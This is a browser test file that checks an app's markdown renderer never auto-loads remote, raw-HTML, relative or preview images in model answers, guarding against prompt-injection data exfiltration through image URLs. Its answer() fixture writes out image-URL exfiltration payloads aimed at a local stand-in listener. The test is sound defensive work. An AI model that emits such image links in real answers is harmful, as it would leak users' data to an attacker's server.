// Images in markdown never load on their own (an answer steered by prompt injection could carry
// data out in an image URL): a local HTTP listener counts every request, and an answer in a
// custom UI's frame, an answer in the host's default runner and a stored run message, each with
// `![x](http://127.0.0.1:PORT/leak?d=secret)` (and a raw `<img>`, a relative image and an HTML
// block whose preview has an image), cause no request until the user clicks the image's link.
// Inline `data:image/…` images still show.
import assert from "node:assert/strict";
import { once } from "node:events";
import { readFileSync } from "node:fs";
import { createServer } from "node:http";
import { join } from "node:path";
import { after, before, test } from "node:test";
import { apiClient, launchBrowser, signUpInBrowser, startServer } from "./harness.mjs";

const PROBE = readFileSync(join(import.meta.dirname, "fixtures", "markdown-probe.tsx"), "utf8");
const GIF = "data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7";

let server;
let browser;
let context;
let page;
let api;
let prompt;
let listener;
let leakOrigin;
/** Every request the listener got: its path and query (a tab's favicon request aside). */
const requests = [];
/** Requests to the app for the relative image's path. */
const appRequests = [];

before(async () => {
  listener = createServer((req, res) => {
    if (req.url !== "/favicon.ico") requests.push(req.url);
    res.writeHead(200, { "content-type": "image/gif" });
    res.end(Buffer.from(GIF.split(",")[1], "base64"));
  });
  listener.listen(0, "127.0.0.1");
  await once(listener, "listening");
  leakOrigin = `http://127.0.0.1:${listener.address().port}`;

  server = await startServer();
  browser = await launchBrowser();
  context = await browser.newContext();
  page = await context.newPage();
  context.on("request", (req) => {
    const url = new URL(req.url());
    if (url.origin === server.app && url.pathname.startsWith("/leak")) appRequests.push(url.pathname + url.search);
  });
  const session = await signUpInBrowser(page, server.app);
  api = apiClient(server.app, session.token);
  prompt = await api("POST", "/api/prompts", {
    name: "Image echo",
    messages: [{ role: "user", content: "Answer in markdown." }],
    settings: { model_id: "echo" },
  });
});
after(async () => {
  await browser?.close();
  await server?.stop();
  listener?.close();
});

/** Markdown with a remote image, a raw HTML image, a relative image and an inline one. */
function answer(tag) {
  return [
    `Here is the chart: ![chart ${tag}](${leakOrigin}/leak?d=secret-${tag}) and more text.`,
    "",
    `<img src="${leakOrigin}/leak?d=raw-${tag}">`,
    "",
    `A relative one: ![rel](/leak-relative?d=${tag}) and a badge [![badge](${leakOrigin}/leak?d=badge-${tag})](https://example.com/).`,
    "",
    `An inline one: ![dot](${GIF})`,
    "",
    "```html",
    `<h1>Preview</h1><img src="${leakOrigin}/leak?d=preview-${tag}">`,
    "```",
  ].join("\n");
}

/** Waits a moment for anything the page would still load, then asserts nothing was requested. */
async function assertNothingLoaded(what) {
  await page.waitForTimeout(700);
  assert.deepEqual(requests, [], `${what}: the listener got requests`);
  assert.deepEqual(appRequests, [], `${what}: a relative image was requested from the app`);
}

/** Checks a rendered answer (a locator of its `.pd-markdown`) shows links and labels, not images. */
async function assertImagesAreLinks(md, tag) {
  const imgs = await md.locator("img").evaluateAll((els) => els.map((e) => e.getAttribute("src")));
  assert.deepEqual(imgs, [GIF], "only the inline image is an <img>");
  const link = md.getByRole("link", { name: `Image “chart ${tag}” from 127.0.0.1:${listener.address().port}` });
  assert.equal(await link.getAttribute("href"), `${leakOrigin}/leak?d=secret-${tag}`);
  assert.ok((await md.textContent()).includes(`<img src="${leakOrigin}/leak?d=raw-${tag}">`), "raw HTML shows as text");
  assert.equal(await md.getByText("Image “rel” (not shown)").count(), 1, "a relative image is a label");
  assert.equal(await md.getByText(/^Image “badge” from 127\.0\.0\.1/).count(), 1, "an image inside a link is a label");
  assert.ok(await md.locator("img").evaluate((img) => img.complete && img.naturalWidth === 1), "the inline image rendered");
  return link;
}

/** Opens the answer's HTML preview: its image is not loaded either (the preview has the page's policy). */
async function assertPreviewLoadsNothing(md, what) {
  await md.getByRole("button", { name: "Preview" }).click();
  await md.frameLocator("iframe.pd-html-preview").getByRole("heading", { name: "Preview" }).waitFor();
  await assertNothingLoaded(`${what}'s HTML preview`);
}

/** Clicks an image's link (accepting the host's confirmation inside a frame): exactly its URL is requested, in a new tab. */
async function openByClick(link, tag, { confirm = false } = {}) {
  if (confirm) page.once("dialog", (d) => void d.accept());
  const popup = context.waitForEvent("page");
  await link.click();
  const opened = await popup;
  await opened.waitForLoadState("domcontentloaded");
  assert.deepEqual(requests, [`/leak?d=secret-${tag}`]);
  assert.equal(await opened.evaluate(() => window.opener), null, "no opener");
  await opened.close();
  requests.length = 0;
}

test("an answer in a custom UI's frame shows a remote image as a link and loads it only after a click", async () => {
  const ui = await api("POST", "/api/custom-uis", { prompt_id: prompt.id, name: "Probe", component_code: PROBE, execution_mode: "manual" });
  await page.goto(`${server.app}/ui/${ui.id}`);
  const f = page.frameLocator("iframe.ui-frame");
  await f.getByLabel("Markdown to echo").fill(answer("frame"));
  await f.getByRole("button", { name: "Echo it" }).click();
  await f.getByTestId("status").filter({ hasText: /^done$/ }).waitFor({ timeout: 30_000 });

  await assertNothingLoaded("the frame's answer");
  const link = await assertImagesAreLinks(f.locator(".pd-markdown"), "frame");
  await assertPreviewLoadsNothing(f.locator(".pd-markdown"), "the frame's answer");

  // A click asks the host, which asks the user; accepted, the image opens in a new tab.
  await openByClick(link, "frame", { confirm: true });
});

test("an answer in the host's default runner loads no image until a click", async () => {
  await page.goto(`${server.app}/prompts/${prompt.id}/run`);
  await page.getByLabel("Message (optional)").fill(answer("host"));
  await page.getByRole("button", { name: "Run" }).click();
  const md = page.getByLabel("Answer").locator(".pd-markdown");
  await page.getByLabel("Answer").and(page.locator('[data-status="done"]')).waitFor({ timeout: 30_000 });

  await assertNothingLoaded("the host's answer");
  await openByClick(await assertImagesAreLinks(md, "host"), "host");
});

test("a stored run message loads no image when its run is shown, and the image opens on a click", async () => {
  const run = await api("POST", "/api/runs", { source_type: "prompt", name: "Stored images" });
  await api("POST", `/api/runs/${run.id}/messages`, { role: "assistant", content: answer("run") });
  await page.goto(`${server.app}/runs/${run.id}`);
  const md = page.getByRole("list", { name: "Messages" }).locator(".pd-markdown");
  await md.getByText("Here is the chart:").waitFor();

  await assertNothingLoaded("the run page");
  const link = await assertImagesAreLinks(md, "run");
  await assertPreviewLoadsNothing(md, "the run page");
  await openByClick(link, "run");
});
